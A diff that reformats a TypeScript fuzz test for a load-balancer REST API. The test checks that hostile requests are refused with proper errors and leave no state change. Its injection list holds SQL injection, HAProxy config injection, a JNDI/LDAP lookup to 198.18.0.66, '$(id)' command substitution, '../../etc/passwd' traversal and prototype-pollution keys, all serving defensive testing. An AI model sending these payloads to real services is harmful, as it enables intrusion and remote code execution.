@@ -6,7 +6,13 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
-  documentedOperations, isUuidReference, type JsonSchema, type Operation, pathParameterCollection, pathParameters, REFERENCES,
+  documentedOperations,
+  isUuidReference,
+  type JsonSchema,
+  type Operation,
+  pathParameterCollection,
+  pathParameters,
+  REFERENCES,
 } from './documented-routes';
 import { type CollectionName, NeutronApi, type NeutronErrorBody } from './neutron-api';
 import { createEstate, createPublicNetwork, type Estate } from './tenant-estate';
@@ -61,19 +67,53 @@ const object = (entries: readonly (readonly [string, Json])[]): Json => ({ kind:
 
 function jsonText(json: Json): string {
   switch (json.kind) {
-    case 'raw': return json.text;
-    case 'value': return JSON.stringify(json.value);
-    case 'array': return `[${json.items.map(jsonText).join(',')}]`;
-    case 'object': return `{${json.entries.map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`).join(',')}}`;
+    case 'raw':
+      return json.text;
+    case 'value':
+      return JSON.stringify(json.value);
+    case 'array':
+      return `[${json.items.map(jsonText).join(',')}]`;
+    case 'object':
+      return `{${json.entries.map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`).join(',')}}`;
   }
 }
 
 const INJECTIONS = [
-  "' OR '1'='1", '1; DROP TABLE pools; --', '" OR ""="', "') UNION SELECT * FROM checkpoints --", '\nbind *:80\n',
-  'x\n    server evil 198.18.0.66:80 check', '#', '# comment', 'backend evil\n  mode tcp', 'stats socket /tmp/lbaas.sock level admin',
-  'global\n  daemon', '\r\nX-Injected: 1', 'acl evil hdr(host) -i evil', '\'"#;\\', '${jndi:ldap://198.18.0.66/a}', '{{7*7}}', '$(id)', '`id`',
-  '../../etc/passwd', '%s%n%x', '\u0000', '\u001b[31m', '\u202e', '\ufeff', '\ud800', 'lbaas.events.pool.>', '*', '>', 'a.b c', 'null',
-  '[]', '{}', '__proto__', 'constructor', 'x'.repeat(256),
+  "' OR '1'='1",
+  '1; DROP TABLE pools; --',
+  '" OR ""="',
+  "') UNION SELECT * FROM checkpoints --",
+  '\nbind *:80\n',
+  'x\n    server evil 198.18.0.66:80 check',
+  '#',
+  '# comment',
+  'backend evil\n  mode tcp',
+  'stats socket /tmp/lbaas.sock level admin',
+  'global\n  daemon',
+  '\r\nX-Injected: 1',
+  'acl evil hdr(host) -i evil',
+  '\'"#;\\',
+  '${jndi:ldap://198.18.0.66/a}',
+  '{{7*7}}',
+  '$(id)',
+  '`id`',
+  '../../etc/passwd',
+  '%s%n%x',
+  '\u0000',
+  '\u001b[31m',
+  '\u202e',
+  '\ufeff',
+  '\ud800',
+  'lbaas.events.pool.>',
+  '*',
+  '>',
+  'a.b c',
+  'null',
+  '[]',
+  '{}',
+  '__proto__',
+  'constructor',
+  'x'.repeat(256),
 ];
 const CONTROL = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));
 const hostileString: fc.Arbitrary<string> = fc.oneof(
@@ -84,15 +124,51 @@ const hostileString: fc.Arbitrary<string> = fc.oneof(
   fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 8 })).map(([a, b]) => a + b),
   fc.integer({ min: 256, max: 4000 }).map((n) => 'é'.repeat(n)),
 );
-const NUMBERS = ['1e999', '-1e999', '1e-999', '123456789012345678901234567890', '-0', '0.5', '65536', '-1', '2147483648', '9007199254740993', '0x10', 'NaN', 'Infinity', '01', '+1', '.5'];
-const hostileNumber: fc.Arbitrary<Json> = fc.oneof(fc.integer().map(value), fc.double({ noNaN: true, noDefaultInfinity: true }).map(value), fc.constantFrom(...NUMBERS).map(raw));
-const FIELD_NAMES = ['name', 'id', 'tenant_id', 'bind', 'server', 'pool', 'weight', '__proto__', 'constructor', 'admin_state_up', 'session_persistence'];
+const NUMBERS = [
+  '1e999',
+  '-1e999',
+  '1e-999',
+  '123456789012345678901234567890',
+  '-0',
+  '0.5',
+  '65536',
+  '-1',
+  '2147483648',
+  '9007199254740993',
+  '0x10',
+  'NaN',
+  'Infinity',
+  '01',
+  '+1',
+  '.5',
+];
+const hostileNumber: fc.Arbitrary<Json> = fc.oneof(
+  fc.integer().map(value),
+  fc.double({ noNaN: true, noDefaultInfinity: true }).map(value),
+  fc.constantFrom(...NUMBERS).map(raw),
+);
+const FIELD_NAMES = [
+  'name',
+  'id',
+  'tenant_id',
+  'bind',
+  'server',
+  'pool',
+  'weight',
+  '__proto__',
+  'constructor',
+  'admin_state_up',
+  'session_persistence',
+];
 const hostileKey: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...FIELD_NAMES), hostileString);
 
 const { hostileJson } = fc.letrec<{ hostileJson: Json }>((tie) => ({
   hostileJson: fc.oneof(
     { depthSize: 'small' },
-    hostileString.map(value), hostileNumber, fc.boolean().map(value), fc.constant(value(null)),
+    hostileString.map(value),
+    hostileNumber,
+    fc.boolean().map(value),
+    fc.constant(value(null)),
     fc.array(tie('hostileJson'), { maxLength: 3 }).map((items): Json => ({ kind: 'array', items })),
     fc.array(fc.tuple(hostileKey, tie('hostileJson')), { maxLength: 3 }).map(object),
     // Deeper than JSON.stringify's stack reaches.
@@ -101,8 +177,16 @@ const { hostileJson } = fc.letrec<{ hostileJson: Json }>((tie) => ({
 }));
 
 const CONTENT_TYPES = [
-  'application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON', 'text/plain', 'application/x-www-form-urlencoded',
-  'multipart/form-data; boundary=x', 'application/xml', '*/*', 'application/json; charset=latin1', null,
+  'application/json',
+  'application/json; charset=utf-8',
+  'APPLICATION/JSON',
+  'text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'application/xml',
+  '*/*',
+  'application/json; charset=latin1',
+  null,
 ];
 const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
 /** Percent-encoded for a URL; a lone surrogate, which has no UTF-8 form, goes as U+FFFD like TextEncoder sends it. */
@@ -126,8 +210,12 @@ describe('fuzzing every route', () => {
     const demo = new NeutronApi(stack.apiUrl, stack.tokens.demo.token);
     admin = demo.as(stack.tokens.admin.token);
     tokens = {
-      demo: stack.tokens.demo.token, other: stack.tokens.other.token, reader: stack.tokens.reader.token, admin: stack.tokens.admin.token,
-      none: null, bogus: 'not-a-token-0123456789abcdef',
+      demo: stack.tokens.demo.token,
+      other: stack.tokens.other.token,
+      reader: stack.tokens.reader.token,
+      admin: stack.tokens.admin.token,
+      none: null,
+      bogus: 'not-a-token-0123456789abcdef',
     };
     operations = await documentedOperations(demo.as(null));
     // The oracle for "the body is invalid" is the documented schema, checked with the same kind of validator.
@@ -159,7 +247,7 @@ describe('fuzzing every route', () => {
 
   /** An id for a reference to `collection`: the caller's own, another tenant's, or one that names nothing. */
   const someId = (collection: CollectionName | undefined): fc.Arbitrary<string> =>
-    (collection === undefined ? fc.uuid() : fc.oneof(fc.constant(mine[collection].id), fc.constant(theirs[collection].id), fc.uuid()));
+    collection === undefined ? fc.uuid() : fc.oneof(fc.constant(mine[collection].id), fc.constant(theirs[collection].id), fc.uuid());
 
   /** Ids that name nothing the demo tenant may see. */
   const missingId = (collection: CollectionName | undefined): fc.Arbitrary<string> =>
@@ -191,7 +279,12 @@ describe('fuzzing every route', () => {
     if (schema.type === 'boolean') return fc.boolean().map(value);
     if (schema.type === 'array') return fc.constant({ kind: 'array', items: [] });
     if (schema.format === 'ipv4') return fc.tuple(fc.nat(255), fc.nat(255)).map(([a, b]) => value(`198.18.${a}.${b}`));
-    const examples: Record<string, string> = { cidr: '198.18.200.0/24', expected_codes: '200,202', url_path: '/health', tenant_id: 'tenant_1' };
+    const examples: Record<string, string> = {
+      cidr: '198.18.200.0/24',
+      expected_codes: '200,202',
+      url_path: '/health',
+      tenant_id: 'tenant_1',
+    };
     if (name in examples) return fc.constant(value(examples[name]));
     return hostileString.filter((s) => s.length <= (schema.maxLength ?? 255)).map(value);
   }
@@ -203,10 +296,19 @@ describe('fuzzing every route', () => {
       fc.oneof(
         { weight: required.has(name) ? 10 : 5, arbitrary: plausible(name, property).map((v) => [[name, v] as const]) },
         { weight: 2, arbitrary: hostileJson.map((v) => [[name, v] as const]) },
-        { weight: 1, arbitrary: fc.tuple(plausible(name, property), hostileJson).map(([first, last]) => [[name, first] as const, [name, last] as const]) },
+        {
+          weight: 1,
+          arbitrary: fc
+            .tuple(plausible(name, property), hostileJson)
+            .map(([first, last]) => [[name, first] as const, [name, last] as const]),
+        },
         { weight: required.has(name) ? 1 : 5, arbitrary: fc.constant([]) },
-      ));
-    const unknown = fc.oneof({ weight: 6, arbitrary: fc.constant([]) }, { weight: unknownWeight, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 2 }) });
+      ),
+    );
+    const unknown = fc.oneof(
+      { weight: 6, arbitrary: fc.constant([]) },
+      { weight: unknownWeight, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 2 }) },
+    );
     return fc.tuple(fc.tuple(...fields), unknown).map(([chosen, extra]) => object([...chosen.flat(), ...extra]));
   }
 
@@ -215,38 +317,105 @@ describe('fuzzing every route', () => {
     const inner = bodyObject(op.body.schema, 2);
     const text = fc.oneof(
       { weight: 6, arbitrary: inner.map((i) => jsonText(object([[op.body.key, i]]))) },
-      { weight: 1, arbitrary: fc.tuple(inner, hostileKey, hostileJson).map(([i, k, v]) => jsonText(object([[op.body.key, i], [k, v]]))) },
+      {
+        weight: 1,
+        arbitrary: fc.tuple(inner, hostileKey, hostileJson).map(([i, k, v]) =>
+          jsonText(
+            object([
+              [op.body.key, i],
+              [k, v],
+            ]),
+          ),
+        ),
+      },
       { weight: 1, arbitrary: fc.tuple(inner, hostileKey).map(([i, k]) => jsonText(object([[k, i]]))) },
       { weight: 1, arbitrary: hostileJson.map((v) => jsonText(object([[op.body.key, v]]))) },
       { weight: 1, arbitrary: hostileJson.map(jsonText) },
-      { weight: 1, arbitrary: fc.tuple(inner, fc.nat()).map(([i, cut]) => { const t = jsonText(object([[op.body.key, i]])); return t.slice(0, cut % t.length); }) },
+      {
+        weight: 1,
+        arbitrary: fc.tuple(inner, fc.nat()).map(([i, cut]) => {
+          const t = jsonText(object([[op.body.key, i]]));
+          return t.slice(0, cut % t.length);
+        }),
+      },
       { weight: 1, arbitrary: hostileString },
     );
-    return fc.oneof(
-      { weight: 9, arbitrary: text.map(bytes) },
-      { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }) },
-    ).filter((body) => !bodyValid(op, body));
+    return fc
+      .oneof({ weight: 9, arbitrary: text.map(bytes) }, { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }) })
+      .filter((body) => !bodyValid(op, body));
   }
 
   /** Any body at all, for requests refused for another reason. */
   const anyBody = (op: Operation): fc.Arbitrary<Uint8Array | null> =>
-    (op.body ? fc.oneof(bodyObject(op.body.schema, 1).map((i) => bytes(jsonText(object([[op.body?.key ?? '', i]])))), invalidBody({ ...op, body: op.body })) : fc.constant(null));
+    op.body
+      ? fc.oneof(
+          bodyObject(op.body.schema, 1).map((i) => bytes(jsonText(object([[op.body?.key ?? '', i]])))),
+          invalidBody({ ...op, body: op.body }),
+        )
+      : fc.constant(null);
 
   const query: fc.Arbitrary<string> = fc.oneof(
     fc.constant(''),
-    fc.array(fc.tuple(
-      fc.oneof(fc.constantFrom('name', 'id', 'tenant_id', 'fields', 'limit', 'marker', 'sort_key', 'sort_dir', 'page_reverse', 'protocol_port',
-        'weight', 'admin_state_up', 'router:external', '__proto__', 'constructor', 'toString'), hostileString),
-      fc.oneof(hostileString, fc.constantFrom('asc', 'desc', 'True', '0', '-1', '1e3', '99999999999', 'id', 'name'), fc.uuid()),
-    ), { minLength: 1, maxLength: 5 }).map((pairs) => `?${pairs.map(([k, v]) => `${encoded(k)}=${encoded(v)}`).join('&')}`),
-    fc.constantFrom('?%zz&&=&a=%', '?limit=2&marker=', '?sort_key=name', '?sort_dir=up&sort_key=id', '?fields=', '?limit=1&page_reverse=True'),
+    fc
+      .array(
+        fc.tuple(
+          fc.oneof(
+            fc.constantFrom(
+              'name',
+              'id',
+              'tenant_id',
+              'fields',
+              'limit',
+              'marker',
+              'sort_key',
+              'sort_dir',
+              'page_reverse',
+              'protocol_port',
+              'weight',
+              'admin_state_up',
+              'router:external',
+              '__proto__',
+              'constructor',
+              'toString',
+            ),
+            hostileString,
+          ),
+          fc.oneof(hostileString, fc.constantFrom('asc', 'desc', 'True', '0', '-1', '1e3', '99999999999', 'id', 'name'), fc.uuid()),
+        ),
+        { minLength: 1, maxLength: 5 },
+      )
+      .map((pairs) => `?${pairs.map(([k, v]) => `${encoded(k)}=${encoded(v)}`).join('&')}`),
+    fc.constantFrom(
+      '?%zz&&=&a=%',
+      '?limit=2&marker=',
+      '?sort_key=name',
+      '?sort_dir=up&sort_key=id',
+      '?fields=',
+      '?limit=1&page_reverse=True',
+    ),
   );
 
   function readRequest(op: Operation): fc.Arbitrary<FuzzRequest> {
-    return fc.record({
-      path: fc.tuple(pathOf(op, (c) => fc.oneof(someId(c), missingId(c))), query).map(([p, q]) => p + q),
-      token: fc.constantFrom<TokenName>('demo', 'other', 'reader', 'admin', 'none', 'bogus'),
-    }).map(({ path, token }) => ({ operationId: op.operationId, defect: 'read', method: 'GET', path, token, contentType: null, body: null, bodyValid: false }));
+    return fc
+      .record({
+        path: fc
+          .tuple(
+            pathOf(op, (c) => fc.oneof(someId(c), missingId(c))),
+            query,
+          )
+          .map(([p, q]) => p + q),
+        token: fc.constantFrom<TokenName>('demo', 'other', 'reader', 'admin', 'none', 'bogus'),
+      })
+      .map(({ path, token }) => ({
+        operationId: op.operationId,
+        defect: 'read',
+        method: 'GET',
+        path,
+        token,
+        contentType: null,
+        body: null,
+        bodyValid: false,
+      }));
   }
 
   function writeRequest(op: Operation): fc.Arbitrary<FuzzRequest> {
@@ -254,51 +423,107 @@ describe('fuzzing every route', () => {
     const wrongMethods = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'].filter((m) => !allowed.has(m as Operation['method']));
     const base = { operationId: op.operationId, method: op.method as string };
     const request = (defect: Defect, path: fc.Arbitrary<string>, token: fc.Arbitrary<TokenName>, body: fc.Arbitrary<Uint8Array | null>) =>
-      fc.record({ path, token, body, contentType: fc.constantFrom(...CONTENT_TYPES) }).map((r): FuzzRequest =>
-        ({ ...base, defect, ...r, bodyValid: r.body !== null && bodyValid(op, r.body) }));
+      fc
+        .record({ path, token, body, contentType: fc.constantFrom(...CONTENT_TYPES) })
+        .map((r): FuzzRequest => ({ ...base, defect, ...r, bodyValid: r.body !== null && bodyValid(op, r.body) }));
     const ownPath = pathOf(op, someId);
     const defects: fc.WeightedArbitrary<FuzzRequest>[] = [
       { weight: 1, arbitrary: request('token', ownPath, fc.constantFrom<TokenName>('none', 'bogus'), anyBody(op)) },
       { weight: 1, arbitrary: request('reader', ownPath, fc.constant<TokenName>('reader'), anyBody(op)) },
       {
         weight: 1,
-        arbitrary: fc.tuple(request('method', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), anyBody(op)), fc.constantFrom(...wrongMethods))
+        arbitrary: fc
+          .tuple(request('method', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), anyBody(op)), fc.constantFrom(...wrongMethods))
           .map(([r, method]) => ({ ...r, method, body: method === 'GET' ? null : r.body })),
       },
     ];
     if (op.adminOnly) {
       // An administrators' write: a member is refused whatever the ids and body; the admin sees every tenant, so only ids naming nothing are a defect.
       defects.push({ weight: 2, arbitrary: request('member', ownPath, fc.constantFrom<TokenName>('demo', 'other'), anyBody(op)) });
-      const nothing = (collection: CollectionName | undefined) => fc.oneof(fc.uuid(), missingId(collection).filter((id) => id !== theirs[collection ?? 'pools'].id));
-      if (pathParameters(op).length > 0) defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, nothing), fc.constant<TokenName>('admin'), anyBody(op)) });
-      if (op.body) defects.push({ weight: 6, arbitrary: request('body', ownPath, fc.constant<TokenName>('admin'), invalidBody({ ...op, body: op.body })) });
+      const nothing = (collection: CollectionName | undefined) =>
+        fc.oneof(
+          fc.uuid(),
+          missingId(collection).filter((id) => id !== theirs[collection ?? 'pools'].id),
+        );
+      if (pathParameters(op).length > 0)
+        defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, nothing), fc.constant<TokenName>('admin'), anyBody(op)) });
+      if (op.body)
+        defects.push({
+          weight: 6,
+          arbitrary: request('body', ownPath, fc.constant<TokenName>('admin'), invalidBody({ ...op, body: op.body })),
+        });
       return fc.oneof(...defects);
     }
-    if (pathParameters(op).length > 0) defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, missingId), fc.constant<TokenName>('demo'), anyBody(op)) });
-    if (op.body) defects.push({ weight: 6, arbitrary: request('body', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), invalidBody({ ...op, body: op.body })) });
+    if (pathParameters(op).length > 0)
+      defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, missingId), fc.constant<TokenName>('demo'), anyBody(op)) });
+    if (op.body)
+      defects.push({
+        weight: 6,
+        arbitrary: request('body', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), invalidBody({ ...op, body: op.body })),
+      });
     return fc.oneof(...defects);
   }
 
   const junkPath: fc.Arbitrary<string> = fc.oneof(
-    fc.tuple(fc.constantFrom('/v2.0/', '/v2.0/lb/', '/', '/v2.0/lb/pools/'), fc.array(hostileString.map(encoded), { minLength: 1, maxLength: 3 }))
+    fc
+      .tuple(
+        fc.constantFrom('/v2.0/', '/v2.0/lb/', '/', '/v2.0/lb/pools/'),
+        fc.array(hostileString.map(encoded), { minLength: 1, maxLength: 3 }),
+      )
       .map(([prefix, segments]) => prefix + segments.join('/')),
-    fc.constantFrom('//v2.0/lb/pools', '/v2.0/lb//pools', '/v2.0/lb/pools/../../networks', '/v2.0/lb/./pools', '/%2e%2e/v2.0', '/v2.0/lb/pools%2F',
-      '/v2.0/lb/pools;x', '/v2.0/lb/pools.xml', '/v2.0/lb/pools.json.json', '/', '/v2.0/extensions/%00', '/v2.0/lb/pools/%', '/healthz/../v2.0/lb/vips'),
+    fc.constantFrom(
+      '//v2.0/lb/pools',
+      '/v2.0/lb//pools',
+      '/v2.0/lb/pools/../../networks',
+      '/v2.0/lb/./pools',
+      '/%2e%2e/v2.0',
+      '/v2.0/lb/pools%2F',
+      '/v2.0/lb/pools;x',
+      '/v2.0/lb/pools.xml',
+      '/v2.0/lb/pools.json.json',
+      '/',
+      '/v2.0/extensions/%00',
+      '/v2.0/lb/pools/%',
+      '/healthz/../v2.0/lb/vips',
+    ),
   );
-  const malformedText = fc.oneof(hostileString, hostileJson.map(jsonText)).filter((t) => { try { JSON.parse(t); return false; } catch { return true; } });
-  const junkRequest: fc.Arbitrary<FuzzRequest> = fc.record({
-    method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'),
-    path: fc.tuple(junkPath, query).map(([p, q]) => p + q),
-    token: fc.constantFrom<TokenName>('demo', 'admin', 'none'),
-    text: malformedText,
-    contentType: fc.constantFrom(...CONTENT_TYPES),
-  }).map(({ method, path, token, text, contentType }) =>
-    ({ operationId: 'junk', defect: 'route', method, path, token, contentType, body: method === 'GET' ? null : bytes(text), bodyValid: false }));
+  const malformedText = fc.oneof(hostileString, hostileJson.map(jsonText)).filter((t) => {
+    try {
+      JSON.parse(t);
+      return false;
+    } catch {
+      return true;
+    }
+  });
+  const junkRequest: fc.Arbitrary<FuzzRequest> = fc
+    .record({
+      method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'),
+      path: fc.tuple(junkPath, query).map(([p, q]) => p + q),
+      token: fc.constantFrom<TokenName>('demo', 'admin', 'none'),
+      text: malformedText,
+      contentType: fc.constantFrom(...CONTENT_TYPES),
+    })
+    .map(({ method, path, token, text, contentType }) => ({
+      operationId: 'junk',
+      defect: 'route',
+      method,
+      path,
+      token,
+      contentType,
+      body: method === 'GET' ? null : bytes(text),
+      bodyValid: false,
+    }));
 
   /** A body one byte over the limit, built when sent, so that generated values stay small. */
   const oversize = (op: Operation): FuzzRequest => ({
-    operationId: op.operationId, defect: 'size', method: op.method, path: op.path.replace(/\{\w+\}/g, mine.pools.id), token: 'demo',
-    contentType: 'application/json', body: null, bodyValid: false,
+    operationId: op.operationId,
+    defect: 'size',
+    method: op.method,
+    path: op.path.replace(/\{\w+\}/g, mine.pools.id),
+    token: 'demo',
+    contentType: 'application/json',
+    body: null,
+    bodyValid: false,
   });
 
   function requests(): fc.Arbitrary<FuzzRequest> {
@@ -316,9 +541,8 @@ describe('fuzzing every route', () => {
     const token = tokens[req.token];
     if (token !== null) headers['X-Auth-Token'] = token;
     if (req.contentType !== null) headers['Content-Type'] = req.contentType;
-    const body = req.defect === 'size'
-      ? bytes(JSON.stringify({ pool: { name: 'big', description: 'x'.repeat(MAX_BODY_BYTES) } }))
-      : req.body;
+    const body =
+      req.defect === 'size' ? bytes(JSON.stringify({ pool: { name: 'big', description: 'x'.repeat(MAX_BODY_BYTES) } })) : req.body;
     const response = await fetch(`${stack.apiUrl}${req.path}`, { method: req.method, headers, body: body ?? undefined });
     sent++;
     sentByOperation.set(req.operationId, (sentByOperation.get(req.operationId) ?? 0) + 1);
@@ -328,14 +552,21 @@ describe('fuzzing every route', () => {
   function expectedStatus(req: FuzzRequest): number | null {
     switch (req.defect) {
       case 'read':
-      case 'route': return null;
-      case 'token': return 401;
+      case 'route':
+        return null;
+      case 'token':
+        return 401;
       case 'reader':
-      case 'member': return 403;
-      case 'method': return 405;
-      case 'path id': return req.body !== null && !req.bodyValid ? 400 : 404;
-      case 'body': return 400;
-      case 'size': return 413;
+      case 'member':
+        return 403;
+      case 'method':
+        return 405;
+      case 'path id':
+        return req.body !== null && !req.bodyValid ? 400 : 404;
+      case 'body':
+        return 400;
+      case 'size':
+        return 413;
     }
   }
 
@@ -345,7 +576,8 @@ describe('fuzzing every route', () => {
     const expected = expectedStatus(req);
     if (expected !== null && reply.status !== expected) return `answered ${reply.status}, not ${expected}`;
     if (req.method !== 'GET' && reply.status < 400 && req.defect !== 'route') return `a write with a defect was accepted (${reply.status})`;
-    if (req.defect === 'route' && req.method !== 'GET' && reply.status < 400) return `a write to a junk path was accepted (${reply.status})`;
+    if (req.defect === 'route' && req.method !== 'GET' && reply.status < 400)
+      return `a write to a junk path was accepted (${reply.status})`;
     if (reply.status < 400) return null;
     let body: unknown;
     try {
@@ -354,8 +586,15 @@ describe('fuzzing every route', () => {
       return `error body is not JSON: ${reply.text.slice(0, 120)}`;
     }
     const error = (body as Partial<NeutronErrorBody> | null)?.NeutronError;
-    const wellFormed = error !== undefined && Object.keys(body as object).length === 1 && Object.keys(error).sort().join() === 'detail,message,type'
-      && typeof error.type === 'string' && error.type.length > 0 && typeof error.message === 'string' && error.message.length > 0 && typeof error.detail === 'string';
+    const wellFormed =
+      error !== undefined &&
+      Object.keys(body as object).length === 1 &&
+      Object.keys(error).sort().join() === 'detail,message,type' &&
+      typeof error.type === 'string' &&
+      error.type.length > 0 &&
+      typeof error.message === 'string' &&
+      error.message.length > 0 &&
+      typeof error.detail === 'string';
     if (!wellFormed) return `not a NeutronError: ${reply.text.slice(0, 120)}`;
     if (!reply.contentType?.startsWith('application/json')) return `error with Content-Type ${reply.contentType}`;
     return null;
@@ -373,20 +612,26 @@ describe('fuzzing every route', () => {
 
   it(`refuses ${MIN_REQUESTS}+ hostile requests in Neutron's error format, never with a 5xx, and changes nothing`, async () => {
     const problems: string[] = [];
-    const result = await fc.check(fc.asyncProperty(fc.array(requests(), { minLength: BATCH, maxLength: BATCH }), async (batch) => {
-      const before = await state();
-      const queue = [...batch];
-      await Promise.all(Array.from({ length: CONCURRENCY }, async () => {
-        for (let req = queue.shift(); req !== undefined; req = queue.shift()) {
-          const reply = await send(req);
-          const problem = problemWith(req, reply);
-          if (problem !== null) problems.push(`${describeRequest(req)} -> ${problem}`);
-        }
-      }));
-      const after = await state();
-      if (JSON.stringify(after) !== JSON.stringify(before)) problems.push(`the state changed in a batch of refused requests: ${batch.map(describeRequest).join('\n')}`);
-      return problems.length === 0;
-    }), { numRuns: BATCHES, endOnFailure: true });
+    const result = await fc.check(
+      fc.asyncProperty(fc.array(requests(), { minLength: BATCH, maxLength: BATCH }), async (batch) => {
+        const before = await state();
+        const queue = [...batch];
+        await Promise.all(
+          Array.from({ length: CONCURRENCY }, async () => {
+            for (let req = queue.shift(); req !== undefined; req = queue.shift()) {
+              const reply = await send(req);
+              const problem = problemWith(req, reply);
+              if (problem !== null) problems.push(`${describeRequest(req)} -> ${problem}`);
+            }
+          }),
+        );
+        const after = await state();
+        if (JSON.stringify(after) !== JSON.stringify(before))
+          problems.push(`the state changed in a batch of refused requests: ${batch.map(describeRequest).join('\n')}`);
+        return problems.length === 0;
+      }),
+      { numRuns: BATCHES, endOnFailure: true },
+    );
     expect({ seed: result.seed, problems: problems.slice(0, 25) }).toEqual({ seed: result.seed, problems: [] });
     expect(sent).toBeGreaterThanOrEqual(MIN_REQUESTS);
     expect(operations.filter((op) => !sentByOperation.has(op.operationId)).map((op) => op.operationId)).toEqual([]);
@@ -395,18 +640,26 @@ describe('fuzzing every route', () => {
   it('stores valid names and descriptions with injection, unicode and control characters verbatim', async () => {
     const demo = admin.as(stack.tokens.demo.token);
     const before = await state();
-    const text = fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: CONTROL, maxLength: 8 }))
+    const text = fc
+      .oneof(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: CONTROL, maxLength: 8 }))
       .filter((s) => s.length <= 255 && !/\p{Cs}/u.test(s)); // a lone surrogate has no UTF-8 form to store
-    await fc.assert(fc.asyncProperty(text, text, async (name, description) => {
-      const created = await demo.post<{ pool: { id: string; name: string; description: string } }>('/v2.0/lb/pools', {
-        pool: { name, description, protocol: 'HTTP', lb_method: 'ROUND_ROBIN', subnet_id: mine.subnets.id },
-      });
-      expect({ status: created.status, name: created.body.pool.name, description: created.body.pool.description }).toEqual({ status: 201, name, description });
-      const shown = await demo.get<{ pool: { name: string; description: string } }>(`/v2.0/lb/pools/${created.body.pool.id}`);
-      expect({ name: shown.body.pool.name, description: shown.body.pool.description }).toEqual({ name, description });
-      expect((await demo.delete(`/v2.0/lb/pools/${created.body.pool.id}`)).status).toBe(204);
-    }), { numRuns: 40 });
-    expect((await state() as { lists: unknown }).lists).toEqual((before as { lists: unknown }).lists);
+    await fc.assert(
+      fc.asyncProperty(text, text, async (name, description) => {
+        const created = await demo.post<{ pool: { id: string; name: string; description: string } }>('/v2.0/lb/pools', {
+          pool: { name, description, protocol: 'HTTP', lb_method: 'ROUND_ROBIN', subnet_id: mine.subnets.id },
+        });
+        expect({ status: created.status, name: created.body.pool.name, description: created.body.pool.description }).toEqual({
+          status: 201,
+          name,
+          description,
+        });
+        const shown = await demo.get<{ pool: { name: string; description: string } }>(`/v2.0/lb/pools/${created.body.pool.id}`);
+        expect({ name: shown.body.pool.name, description: shown.body.pool.description }).toEqual({ name, description });
+        expect((await demo.delete(`/v2.0/lb/pools/${created.body.pool.id}`)).status).toBe(204);
+      }),
+      { numRuns: 40 },
+    );
+    expect(((await state()) as { lists: unknown }).lists).toEqual((before as { lists: unknown }).lists);
   });
 
   it('leaves the api and the projections answering', async () => {
